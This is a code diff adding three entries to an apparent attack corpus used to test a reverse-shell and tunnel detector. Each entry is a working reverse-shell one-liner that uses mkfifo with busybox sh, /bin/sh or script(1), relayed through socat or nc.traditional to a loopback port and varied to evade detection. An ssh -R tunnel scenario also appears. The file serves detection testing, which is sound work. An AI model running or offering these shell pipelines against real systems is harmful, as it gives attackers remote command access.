@@ -108,6 +108,17 @@ internal static partial class AttackCorpus
                 await Task.Delay(5500);
             }),
 
+        // Added in the second round (after held-out set 2 was fixed), for the shapes the walk through relays and the
+        // multi-call applet rule cover: a multi-call binary's shell, two relaying hops, a pty owner behind a pipe.
+        new("a36", "busybox sh -s reading a FIFO, its output piped to socat STDIO, into the FIFO", "busybox sh+socat", Wiring.Fifo, AttackKind.Shell, Mode.Shell,
+            Sh(e => $"rm -f q; mkfifo q; /usr/bin/busybox sh -s < q 2>&1 | /usr/bin/socat - TCP:127.0.0.1:{e.P} > q")),
+
+        new("a37", "sh behind relays: nc.traditional < q | dd | sh | tee > q", "dd+tee+nc.traditional", Wiring.Pipe, AttackKind.Shell, Mode.Shell,
+            Sh(e => $"rm -f q; mkfifo q; /usr/bin/nc.traditional 127.0.0.1 {e.P} < q | /bin/dd bs=1 status=none | /bin/sh 2>&1 | /usr/bin/tee /dev/null > q")),
+
+        new("a38", "script(1) behind a pipe: socat STDIO < q | script -qfc /bin/sh > q (the shell on script's pty)", "script+socat", Wiring.Pty, AttackKind.Shell, Mode.Shell,
+            Sh(e => $"rm -f q; mkfifo q; /usr/bin/socat - TCP:127.0.0.1:{e.P} < q | /usr/bin/script -qfc /bin/sh /dev/null > q 2>&1")),
+
         // ---- tunnels and relays ----
         new("t01", "ssh -R remote forward to a real loopback sshd, traffic through it", "ssh", Wiring.Relay, AttackKind.Tunnel, Mode.Hold,
             e => SshTunnel(e, remote => ["-N", "-R", $"{remote}:127.0.0.1:{e.P}"], (remote, _) => ScenarioEnv.DriveAsync(remote, TimeSpan.FromSeconds(4), TimeSpan.FromSeconds(15)))),
